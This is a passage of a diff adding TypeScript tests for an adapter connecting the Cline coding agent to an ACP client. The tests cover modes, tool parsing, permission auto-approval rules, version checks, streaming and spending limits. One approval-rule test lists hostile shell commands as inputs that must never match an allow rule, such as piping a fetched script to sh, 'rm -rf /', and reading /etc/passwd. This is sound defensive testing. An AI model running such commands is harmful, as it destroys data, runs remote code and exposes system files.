+      expect(extractWorkspaceRoots("{}")).toEqual([]);
+      expect(extractWorkspaceRoots("not json")).toEqual([]);
+    });
+  });
+
+  describe("isWorkspaceRoot()", () => {
+    it("should compare normalized paths", () => {
+      expect(isWorkspaceRoot(["/a/b/"], "/a/b")).toBe(true);
+      expect(isWorkspaceRoot(["/a/b"], "/a/b/c")).toBe(false);
+    });
+  });
+
+  describe("extractMode()", () => {
+    it("should extract 'plan' mode from state", () => {
+      const stateJson = JSON.stringify({ mode: "plan" });
+      const mode = extractMode(stateJson);
+      expect(mode).toBe("plan");
+    });
+
+    it("should extract 'act' mode from state", () => {
+      const stateJson = JSON.stringify({ mode: "act" });
+      const mode = extractMode(stateJson);
+      expect(mode).toBe("act");
+    });
+
+    it("should default to 'plan' when mode is not specified", () => {
+      const stateJson = JSON.stringify({});
+      const mode = extractMode(stateJson);
+      expect(mode).toBe("plan");
+    });
+
+    it("should default to 'plan' for invalid JSON", () => {
+      const mode = extractMode("invalid json");
+      expect(mode).toBe("plan");
+    });
+  });
+
+  describe("createCurrentModeUpdate()", () => {
+    it("should create a current_mode_update notification for plan mode", () => {
+      const notification = createCurrentModeUpdate("session-123", "plan");
+      expect(notification).toEqual({
+        sessionId: "session-123",
+        update: {
+          sessionUpdate: "current_mode_update",
+          currentModeId: "plan",
+        },
+      });
+    });
+
+    it("should include the new mode's model when given", () => {
+      const notification = createCurrentModeUpdate("session-123", "act", "strong/executor");
+      expect(notification.update).toEqual({
+        sessionUpdate: "current_mode_update",
+        currentModeId: "act",
+        _meta: { currentModelId: "strong/executor" },
+      });
+    });
+
+    it("should create a current_mode_update notification for act mode", () => {
+      const notification = createCurrentModeUpdate("session-456", "act");
+      expect(notification).toEqual({
+        sessionId: "session-456",
+        update: {
+          sessionUpdate: "current_mode_update",
+          currentModeId: "act",
+        },
+      });
+    });
+  });
+});
+
+describe("parseToolInfo()", () => {
+  it("should parse read_file tool info", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.TOOL,
+      text: JSON.stringify({
+        tool: "read_file",
+        path: "/path/to/file.ts",
+      }),
+    });
+
+    expect(toolInfo.type).toBe("read_file");
+    expect(toolInfo.path).toBe("/path/to/file.ts");
+  });
+
+  it("should parse write_to_file tool info", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.TOOL,
+      text: JSON.stringify({
+        tool: "write_to_file",
+        path: "/path/to/new.ts",
+        content: "const x = 1;",
+      }),
+    });
+
+    expect(toolInfo.type).toBe("write_to_file");
+    expect(toolInfo.path).toBe("/path/to/new.ts");
+    expect(toolInfo.input).toHaveProperty("content");
+  });
+
+  it("should parse execute_command tool info", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.COMMAND,
+      text: JSON.stringify({
+        tool: "execute_command",
+        command: "npm run build",
+      }),
+    });
+
+    expect(toolInfo.type).toBe("execute_command");
+    expect(toolInfo.input.command).toBe("npm run build");
+  });
+
+  it("should generate appropriate title", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.TOOL,
+      text: JSON.stringify({
+        tool: "read_file",
+        path: "/path/to/file.ts",
+      }),
+    });
+
+    expect(toolInfo.title).toContain("read");
+  });
+
+  it("should extract content from tool data", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.SAY,
+      say: ClineSay.TOOL,
+      text: JSON.stringify({
+        tool: "read_file",
+        path: "/path/to/file.ts",
+        content: "const x = 1;\nexport default x;",
+      }),
+    });
+
+    expect(toolInfo.content).toBe("const x = 1;\nexport default x;");
+  });
+
+  it("should not extract content if it looks like a path", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.SAY,
+      say: ClineSay.TOOL,
+      text: JSON.stringify({
+        tool: "read_file",
+        path: "src/file.ts",
+        content: "/Users/jason/project/src/file.ts", // Absolute path, not content
+      }),
+    });
+
+    expect(toolInfo.content).toBeUndefined();
+  });
+
+  it("should extract diff from tool data", () => {
+    const toolInfo = parseToolInfo({
+      ts: Date.now(),
+      type: ClineMessageType.SAY,
+      say: ClineSay.TOOL,
+      text: JSON.stringify({
+        tool: "replace_in_file",
+        path: "/path/to/file.ts",
+        diff: "-const x = 1;\n+const x = 2;",
+      }),
+    });
+
+    expect(toolInfo.diff).toBe("-const x = 1;\n+const x = 2;");
+  });
+});
+
+describe("Permission handling", () => {
+  it("should request permission from ACP client for tool calls", async () => {
+    const agent = new ClineAcpAgent({ autoStart: false });
+    const mockConnection = createMockConnection();
+    agent.setClient(mockConnection);
+
+    await agent.initialize({
+      protocolVersion: 1,
+      clientCapabilities: {},
+    });
+
+    await agent.newSession({
+      cwd: "/test/path",
+      mcpServers: [],
+    });
+
+    // Simulate a prompt that triggers a tool call requiring permission
+    // This would be tested through the full prompt flow
+
+    // When permission is requested, verify the structure
+    // This tests the integration point between Cline ask messages and ACP permission requests
+  });
+
+  it("should auto-approve in bypassPermissions mode", async () => {
+    const agent = new ClineAcpAgent({ autoStart: false });
+    const mockConnection = createMockConnection();
+    agent.setClient(mockConnection);
+
+    await agent.initialize({
+      protocolVersion: 1,
+      clientCapabilities: {},
+    });
+
+    const session = await agent.newSession({
+      cwd: "/test/path",
+      mcpServers: [],
+    });
+
+    await agent.setSessionMode({
+      sessionId: session.sessionId,
+      modeId: "bypassPermissions",
+    });
+
+    // In bypassPermissions mode, tool calls should not trigger permission requests
+    // This is handled by Cline's yolo mode
+  });
+
+  it("should auto-approve edits in acceptEdits mode", async () => {
+    const agent = new ClineAcpAgent({ autoStart: false });
+    const mockConnection = createMockConnection();
+    agent.setClient(mockConnection);
+
+    await agent.initialize({
+      protocolVersion: 1,
+      clientCapabilities: {},
+    });
+
+    const session = await agent.newSession({
+      cwd: "/test/path",
+      mcpServers: [],
+    });
+
+    await agent.setSessionMode({
+      sessionId: session.sessionId,
+      modeId: "acceptEdits",
+    });
+
+    // In acceptEdits mode, file edits should be auto-approved
+    // Other operations should still require permission
+  });
+});
+
+describe("Always Allow rules", () => {
+  const commandAsk = (ts: number, command: string) => ({
+    stateJson: JSON.stringify({
+      mode: "act",
+      clineMessages: [{ ts, type: "ask", ask: "command", text: command }],
+    }),
+  });
+
+  function createAgent(optionId: string) {
+    const mockClineClient = createMockClineClient();
+    const mockConnection = createMockConnection();
+    vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+      outcome: { outcome: "selected", optionId },
+    });
+    const agent = new ClineAcpAgent({
+      clineClient: mockClineClient,
+      autoStart: false,
+      dataDir: fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-rules-")),
+    });
+    agent.setClient(mockConnection);
+    return { agent, mockClineClient, mockConnection };
+  }
+
+  it("should remember a command prefix and skip the prompt next time", async () => {
+    const { agent, mockClineClient, mockConnection } = createAgent("allow_always");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield commandAsk(1000, "npm test -- --watch=false");
+      },
+    });
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(1);
+
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield commandAsk(2000, "npm test src/foo.test.ts");
+      },
+    });
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Again" }] });
+
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(1);
+    expect(mockClineClient.Task.askResponse).toHaveBeenLastCalledWith({
+      responseType: "yesButtonClicked",
+    });
+
+    const { rules } = await agent.extMethod("cline/listApprovalRules", {
+      sessionId: session.sessionId,
+    });
+    expect(rules).toEqual([
+      expect.objectContaining({ kind: "execute", commandPrefix: "npm test" }),
+    ]);
+  });
+
+  it("should not offer Always Allow for chained commands", async () => {
+    const { agent, mockClineClient, mockConnection } = createAgent("allow");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield commandAsk(1000, "npm test && npm publish");
+      },
+    });
+
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    const request = vi.mocked(mockConnection.requestPermission).mock.calls[0][0];
+    expect(request.options.map((option) => option.optionId)).toEqual(["allow", "reject"]);
+  });
+
+  it("should still prompt for commands outside the allowed prefix", async () => {
+    const { agent, mockClineClient, mockConnection } = createAgent("allow_always");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+
+    for (const [ts, command] of [
+      [1000, "npm test"],
+      [2000, "npm publish"],
+    ] as const) {
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+        async *[Symbol.asyncIterator]() {
+          yield commandAsk(ts, command);
+        },
+      });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+    }
+
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(2);
+  });
+
+  it("should enforce tool kind rules itself without touching Cline's settings", async () => {
+    const { agent, mockClineClient, mockConnection } = createAgent("allow_always");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+
+    for (const ts of [1000, 2000]) {
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+        async *[Symbol.asyncIterator]() {
+          yield {
+            stateJson: JSON.stringify({
+              clineMessages: [
+                {
+                  ts,
+                  type: "ask",
+                  ask: "tool",
+                  text: JSON.stringify({ tool: "editedExistingFile", path: "a.ts" }),
+                },
+              ],
+            }),
+          };
+        },
+      });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+    }
+
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(1);
+    expect(mockClineClient.Task.askResponse).toHaveBeenLastCalledWith({
+      responseType: "yesButtonClicked",
+    });
+    expect(mockClineClient.State.updateAutoApprovalSettings).not.toHaveBeenCalled();
+
+    // Another workspace's sessions still ask
+    const other = await agent.newSession({ cwd: "/other", mcpServers: [] });
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield {
+          stateJson: JSON.stringify({
+            clineMessages: [
+              {
+                ts: 3000,
+                type: "ask",
+                ask: "tool",
+                text: JSON.stringify({ tool: "editedExistingFile", path: "a.ts" }),
+              },
+            ],
+          }),
+        };
+      },
+    });
+    await agent.prompt({ sessionId: other.sessionId, prompt: [{ type: "text", text: "Go" }] });
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(2);
+  });
+
+  it("should not create a rule for a plain Allow", async () => {
+    const { agent, mockClineClient } = createAgent("allow");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield commandAsk(1000, "ls -la");
+      },
+    });
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    const { rules } = await agent.extMethod("cline/listApprovalRules", { cwd: "/workspace" });
+    expect(rules).toEqual([]);
+    expect(mockClineClient.State.updateAutoApprovalSettings).not.toHaveBeenCalled();
+  });
+
+  it("should revoke a rule and prompt again", async () => {
+    const { agent, mockClineClient, mockConnection } = createAgent("allow_always");
+    const session = await agent.newSession({ cwd: "/workspace", mcpServers: [] });
+
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield {
+          stateJson: JSON.stringify({
+            clineMessages: [{ ts: 1000, type: "ask", ask: "use_mcp_server", text: "{}" }],
+          }),
+        };
+      },
+    });
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    const { rules } = (await agent.extMethod("cline/listApprovalRules", {
+      cwd: "/workspace",
+    })) as { rules: Array<{ id: string }> };
+    const result = await agent.extMethod("cline/revokeApprovalRule", {
+      cwd: "/workspace",
+      ruleId: rules[0].id,
+    });
+
+    expect(result).toEqual({ revoked: true });
+    expect(await agent.extMethod("cline/listApprovalRules", { cwd: "/workspace" })).toEqual({
+      workspace: "/workspace",
+      rules: [],
+    });
+
+    vi.mocked(mockClineClient.State.subscribeToState).mockReturnValueOnce({
+      async *[Symbol.asyncIterator]() {
+        yield {
+          stateJson: JSON.stringify({
+            clineMessages: [{ ts: 2000, type: "ask", ask: "use_mcp_server", text: "{}" }],
+          }),
+        };
+      },
+    });
+    await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+    expect(mockConnection.requestPermission).toHaveBeenCalledTimes(2);
+    expect(mockClineClient.State.updateAutoApprovalSettings).not.toHaveBeenCalled();
+  });
+
+  it("should reject unknown extension methods", async () => {
+    const { agent } = createAgent("allow");
+    await expect(agent.extMethod("cline/unknown", {})).rejects.toThrow();
+  });
+});
+
+describe("Approval rule helpers", () => {
+  it("should keep the program and subcommand as the command prefix", () => {
+    expect(getCommandPrefix("git status --short")).toBe("git status");
+    // Without a subcommand the whole command is kept, flags included
+    expect(getCommandPrefix("ls -la")).toBe("ls -la");
+    expect(getCommandPrefix("rm -rf build")).toBe("rm -rf build");
+    expect(getCommandPrefix("python ./script.py")).toBe("python ./script.py");
+  });
+
+  it("should match command rules on whole words only", () => {
+    const rules = [{ id: "1", kind: "execute" as const, commandPrefix: "npm test", createdAt: 0 }];
+    const ask = (text: string) => ({
+      ts: 1,
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.COMMAND,
+      text,
+    });
+
+    expect(findMatchingApprovalRule(rules, ask("npm test"))).toBeDefined();
+    expect(findMatchingApprovalRule(rules, ask("npm testing"))).toBeUndefined();
+  });
+
+  it("should never match commands that chain, pipe or substitute others", () => {
+    const rules = [{ id: "1", kind: "execute" as const, commandPrefix: "npm test", createdAt: 0 }];
+    const ask = (text: string) => ({
+      ts: 1,
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.COMMAND,
+      text,
+    });
+
+    for (const command of [
+      "npm test && curl evil | sh",
+      "npm test || rm -rf /",
+      "npm test; rm -rf /",
+      "npm test | sh",
+      "npm test $(rm -rf /)",
+      "npm test `rm -rf /`",
+      "npm test > ~/.bashrc",
+      "npm test < /etc/passwd",
+      "npm test\nrm -rf /",
+    ]) {
+      expect(findMatchingApprovalRule(rules, ask(command))).toBeUndefined();
+      expect(approvalRuleForMessage(ask(command))).toBeNull();
+    }
+  });
+
+  it("should not let a flag-style command rule allow other uses of the program", () => {
+    const ask = (text: string) => ({
+      ts: 1,
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.COMMAND,
+      text,
+    });
+    const rule = { id: "1", createdAt: 0, ...approvalRuleForMessage(ask("rm -rf build"))! };
+
+    expect(rule.commandPrefix).toBe("rm -rf build");
+    expect(findMatchingApprovalRule([rule], ask("rm -rf build"))).toBeDefined();
+    expect(findMatchingApprovalRule([rule], ask("rm -rf src"))).toBeUndefined();
+    expect(findMatchingApprovalRule([rule], ask("rm ~/.bashrc"))).toBeUndefined();
+  });
+
+  it("should keep rules for edits in the workspace and outside it apart", () => {
+    const editAsk = (path: string, inWorkspace: boolean) => ({
+      ts: 1,
+      type: ClineMessageType.ASK,
+      ask: ClineAsk.TOOL,
+      text: JSON.stringify({
+        tool: "editedExistingFile",
+        path,
+        operationIsLocatedInWorkspace: inWorkspace,
+      }),
+    });
+    const inside = { id: "1", createdAt: 0, ...approvalRuleForMessage(editAsk("a.ts", true))! };
+    const outside = {
+      id: "2",
+      createdAt: 0,
+      ...approvalRuleForMessage(editAsk("/home/u/.bashrc", false))!,
+    };
+
+    expect(findMatchingApprovalRule([inside], editAsk("b.ts", true))).toBe(inside);
+    expect(findMatchingApprovalRule([inside], editAsk("/home/u/.bashrc", false))).toBeUndefined();
+    expect(findMatchingApprovalRule([outside], editAsk("/home/u/.zshrc", false))).toBe(outside);
+    expect(describeApprovalRule(outside)).toBe("editing files outside the workspace");
+  });
+});
+
+describe("Cline version compatibility", () => {
+  it("should parse versions with a prefix or prerelease suffix", () => {
+    expect(parseVersion("3.37.0")).toEqual([3, 37, 0]);
+    expect(parseVersion("v3.37.1-nightly.2")).toEqual([3, 37, 1]);
+    expect(parseVersion("dev")).toBeNull();
+    expect(compareVersions("3.9.0", "3.37.0")).toBeLessThan(0);
+    expect(compareVersions("4.0.0", "3.37.0")).toBeGreaterThan(0);
+    expect(compareVersions("3.37.0", "v3.37.0")).toBe(0);
+  });
+
+  it("should accept versions in the supported range without a warning", () => {
+    const compatibility = checkClineVersion({ processId: 1, version: "3.37.0" });
+
+    expect(compatibility.version).toBe("3.37.0");
+    expect(compatibility.warning).toBeUndefined();
+  });
+
+  it("should refuse versions older than the supported range", () => {
+    expect(() => checkClineVersion({ processId: 1, version: "2.5.0" })).toThrow(ClineVersionError);
+    expect(() => checkClineVersion({ processId: 1, version: "2.5.0" })).toThrow(
+      `older than ${SUPPORTED_CLINE_VERSIONS.min}`,
+    );
+  });
+
+  it("should only warn about old versions when unsupported versions are allowed", () => {
+    const compatibility = checkClineVersion({ processId: 1, version: "2.5.0" }, true);
+
+    expect(compatibility.warning).toContain("Cline 2.5.0 is older than");
+  });
+
+  it("should warn about versions newer than the supported range", () => {
+    const compatibility = checkClineVersion({ processId: 1, version: "4.1.0" });
+
+    expect(compatibility.warning).toContain("Cline 4.1.0 is newer than");
+  });
+
+  it("should warn about a version Cline doesn't report or that can't be parsed", () => {
+    const missing = checkClineVersion({ processId: 1 });
+    const unparsed = checkClineVersion({ processId: 1, version: "dev" });
+
+    expect(missing.version).toBeUndefined();
+    expect(missing.warning).toContain("Couldn't determine the Cline version (reported: none)");
+    expect(unparsed.warning).toContain("Couldn't determine the Cline version (reported: dev)");
+  });
+
+  it("should refuse sessions on an unsupported Cline", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.State.getProcessInfo).mockResolvedValue({
+      processId: 1,
+      version: "2.5.0",
+    });
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(createMockConnection());
+
+    await expect(agent.newSession({ cwd: "/test/path", mcpServers: [] })).rejects.toThrow(
+      "Cline 2.5.0 is older than",
+    );
+  });
+
+  it("should start sessions on a Cline without a version with a warning", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.State.getProcessInfo).mockResolvedValue({ processId: 1 });
+    const connection = createMockConnection();
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(connection);
+
+    const { sessionId } = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Hi" }] });
+
+    const texts = vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map(([notification]) => getChunkText(notification));
+    expect(texts).toContainEqual(expect.stringContaining("Couldn't determine the Cline version"));
+  });
+
+  it("should warn once on the first prompt when Cline is newer than tested", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.State.getProcessInfo).mockResolvedValue({
+      processId: 1,
+      version: "4.1.0",
+    });
+    const connection = createMockConnection();
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(connection);
+
+    const { sessionId } = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Hi" }] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Hi" }] });
+
+    const warnings = vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map(([notification]) => getChunkText(notification))
+      .filter((text) => text?.includes("Cline 4.1.0 is newer than"));
+    expect(warnings).toHaveLength(1);
+    expect(clineClient.State.getProcessInfo).toHaveBeenCalledTimes(1);
+  });
+});
+
+describe("Partial message streaming", () => {
+  it("should convert gRPC partial messages to the state JSON form", () => {
+    const msg = fromProtoMessage({
+      ts: 1000,
+      type: "SAY",
+      // Unset enums arrive as their first value
+      ask: "FOLLOWUP",
+      say: "COMPLETION_RESULT_SAY",
+      text: "Done",
+      partial: true,
+      planModeResponse: null,
+    } as ClineProtoMessage);
+
+    expect(msg).toMatchObject({
+      ts: 1000,
+      type: ClineMessageType.SAY,
+      say: ClineSay.COMPLETION_RESULT,
+      text: "Done",
+      partial: true,
+    });
+    expect(msg.ask).toBeUndefined();
+    expect(msg.planModeResponse).toBeUndefined();
+  });
+
+  it("should convert partial messages to streaming chunks", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.TEXT,
+        text: "Partial text...",
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).not.toBeNull();
+    expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
+  });
+
+  it("should handle reasoning partial messages", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.REASONING,
+        text: "Thinking...",
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).not.toBeNull();
+    expect(notification?.update.sessionUpdate).toBe("agent_thought_chunk");
+  });
+
+  it("should filter out tool JSON from partial text messages", () => {
+    // This is a regression test - tool JSON was being displayed to users
+    const toolJson = JSON.stringify({
+      tool: "readFile",
+      path: "README.md",
+      content: "/Users/test/project/README.md",
+      operationIsLocatedInWorkspace: true,
+    });
+
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.TEXT,
+        text: toolJson,
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out tool JSON with operationIsLocatedInWorkspace from non-partial messages", () => {
+    // Specific test for the JSON format seen in production
+    const toolJson = JSON.stringify({
+      tool: "readFile",
+      path: "README.md",
+      content: "/Users/jasonconigliari/Projects/LLM/claude-code-acp/README.md",
+      operationIsLocatedInWorkspace: true,
+    });
+
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.TEXT,
+        text: toolJson,
+        partial: false, // Non-partial message
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out API request messages from partial stream", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: "SAY" as ClineMessageType,
+        say: "API_REQ_STARTED" as ClineSay,
+        text: JSON.stringify({ request: "..." }),
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out proto TOOL_SAY messages from partial stream", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: "SAY" as ClineMessageType,
+        say: "TOOL_SAY" as ClineSay,
+        text: "editing file",
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out SAY TOOL messages from partial stream", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.TOOL,
+        text: JSON.stringify({ tool: "readFile", path: "test.ts" }),
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out ASK TOOL messages from partial stream", () => {
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.ASK,
+        ask: ClineAsk.TOOL,
+        text: JSON.stringify({ tool: "write_to_file", path: "test.ts" }),
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+
+  it("should filter out retry JSON from partial messages", () => {
+    const retryJson = JSON.stringify({
+      attempt: 1,
+      maxAttempts: 3,
+      delaySeconds: 0,
+    });
+
+    const notification = clinePartialToAcpNotification(
+      {
+        ts: Date.now(),
+        type: ClineMessageType.SAY,
+        say: ClineSay.TEXT,
+        text: retryJson,
+        partial: true,
+      },
+      "session-123",
+    );
+
+    expect(notification).toBeNull();
+  });
+});
+
+describe("Spending budgets", () => {
+  const apiRequest = (ts: number, cost: number) => ({
+    ts,
+    type: "say",
+    say: "api_req_started",
+    text: JSON.stringify({ tokensIn: 1000, tokensOut: 200, cost }),
+  });
+
+  async function setup(budgets: SpendingBudgets, optionId = "stop") {
+    const mockClineClient = createMockClineClient();
+    const mockConnection = createMockConnection();
+    vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+      outcome: { outcome: "selected", optionId },
+    });
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-budget-"));
+    const agent = new ClineAcpAgent({
+      clineClient: mockClineClient,
+      autoStart: false,
+      dataDir,
+      budgets,
+    });
+    agent.setClient(mockConnection);
+    const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+    return { agent, mockClineClient, mockConnection, dataDir, sessionId: session.sessionId };
+  }
+
+  function streamMessages(clineClient: ClineClient, ...updates: unknown[][]) {
+    vi.mocked(clineClient.State.subscribeToState).mockReturnValue({
+      async *[Symbol.asyncIterator]() {
+        for (const clineMessages of updates) {
+          yield { stateJson: JSON.stringify({ clineMessages }) };
+        }
+      },
+    });
+  }
+
+  function texts(connection: AgentSideConnection): string[] {
+    return vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map((call) => getChunkText(call[0]) ?? "");
+  }
+
+  it("should warn once when a soft limit is crossed", async () => {
+    const { agent, mockClineClient, mockConnection, sessionId } = await setup({
+      session: { soft: { costUsd: 0.01 } },
+    });
+    streamMessages(
+      mockClineClient,
+      [apiRequest(1000, 0.02)],
+      [apiRequest(1000, 0.02), apiRequest(2000, 0.02)],
+    );
+
+    const response = await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    const warnings = texts(mockConnection).filter((text) => text.includes("Session spending"));
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toContain("$0.02 of $0.01");
+    expect(response.stopReason).toBe("end_turn");
+  });
+
+  it("should cancel the task and stop at a hard limit", async () => {
+    const { agent, mockClineClient, mockConnection, sessionId } = await setup({
+      session: { hard: { tokens: 1000 } },
+    });
+    streamMessages(mockClineClient, [apiRequest(1000, 0.02)]);
+
+    const response = await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    expect(mockClineClient.Task.cancelTask).toHaveBeenCalled();
+    const request = vi.mocked(mockConnection.requestPermission).mock.calls[0][0];
+    expect(request.toolCall.title).toContain("1,200 of 1,000 tokens");
+    expect(response.stopReason).toBe("end_turn");
+    expect(response._meta?.budgetExceeded).toBe(true);
+    expect(response._meta?.budget).toMatchObject({ session: { tokens: 1200 } });
+    expect(texts(mockConnection)).toContainEqual(
+      expect.stringContaining("Stopped at the spending limit"),
+    );
+  });
+
+  it("should resume the cancelled task when the user continues", async () => {
+    const { agent, mockClineClient, sessionId } = await setup(
+      { session: { hard: { costUsd: 0.01 } } },
+      "continue",
+    );
+    streamMessages(
+      mockClineClient,
+      [apiRequest(1000, 0.02)],
+      [apiRequest(1000, 0.02), { ts: 2000, type: "ask", ask: "resume_task" }],
+      [
+        apiRequest(1000, 0.02),
+        { ts: 2000, type: "ask", ask: "resume_task" },
+        apiRequest(3000, 0.02),
+      ],
+    );
+
+    const response = await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    expect(mockClineClient.Task.askResponse).toHaveBeenCalledWith({
+      responseType: AskResponseType.YES_BUTTON_CLICKED,
+    });
+    // Going past the limit once lifts it for the rest of the session
+    expect(mockClineClient.Task.cancelTask).toHaveBeenCalledTimes(2); // newSession + budget
+    expect(response.stopReason).toBe("end_turn");
+    expect(response._meta?.budgetExceeded).toBeUndefined();
+  });
+
+  it("should count daily spending across restarts", async () => {
+    const first = await setup({});
+    streamMessages(first.mockClineClient, [apiRequest(1000, 3)]);
+    await first.agent.prompt({
+      sessionId: first.sessionId,
+      prompt: [{ type: "text", text: "Go" }],
     });
 
-    it("should default to 'plan' when mode is not specified", () => {
-      const stateJson = JSON.stringify({});
-      const mode = extractMode(stateJson);
-      expect(mode).toBe("plan");
+    // A new agent with the same data directory sees the day's spending
+    const mockClineClient = createMockClineClient();
+    const mockConnection = createMockConnection();
+    vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+      outcome: { outcome: "selected", optionId: "stop" },
     });
+    const agent = new ClineAcpAgent({
+      clineClient: mockClineClient,
+      autoStart: false,
+      dataDir: first.dataDir,
+      budgets: { daily: { hard: { costUsd: 2 } } },
+    });
+    agent.setClient(mockConnection);
+    const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
 
-    it("should default to 'plan' for invalid JSON", () => {
-      const mode = extractMode("invalid json");
-      expect(mode).toBe("plan");
+    const response = await agent.prompt({
+      sessionId: session.sessionId,
+      prompt: [{ type: "text", text: "Go" }],
     });
+
+    expect(response.stopReason).toBe("end_turn");
+    expect(response._meta?.budgetExceeded).toBe(true);
+    expect(mockClineClient.Task.newTask).not.toHaveBeenCalled();
   });
 
-  describe("createCurrentModeUpdate()", () => {
-    it("should create a current_mode_update notification for plan mode", () => {
-      const notification = createCurrentModeUpdate("session-123", "plan");
-      expect(notification).toEqual({
-        sessionId: "session-123",
-        update: {
-          sessionUpdate: "current_mode_update",
-          currentModeId: "plan",
-        },
-      });
+  describe("checkBudgets()", () => {
+    it("should report the scopes whose limits were reached", () => {
+      const usage = { session: { costUsd: 1, tokens: 100 }, daily: { costUsd: 5, tokens: 500 } };
+      expect(
+        checkBudgets(
+          {
